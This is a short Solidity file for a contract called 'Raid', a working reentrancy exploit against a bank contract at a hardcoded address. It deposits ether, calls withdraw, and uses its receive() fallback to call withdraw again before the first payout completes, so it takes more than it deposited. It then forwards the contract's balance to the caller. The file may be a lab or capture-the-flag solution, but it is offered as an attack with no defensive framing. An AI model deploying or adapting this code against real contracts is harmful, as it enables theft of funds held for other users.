// SPDX-License-Identifier: MIT
pragma solidity 0.8.21;

interface IBank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/// A customer of the bank that asks again while it is being paid.
contract Raid {
    IBank private constant BANK = IBank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
    bool public isGreedy = true;
    bool private isAsking;

    function setGreedy(bool greedy) external {
        isGreedy = greedy;
    }

    function raid() external payable {
        BANK.ethdeposit{value: msg.value}(address(this));
        BANK.withdraw(msg.value);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (!isGreedy || isAsking) return;
        isAsking = true;
        BANK.withdraw(msg.value);
        isAsking = false;
    }
}
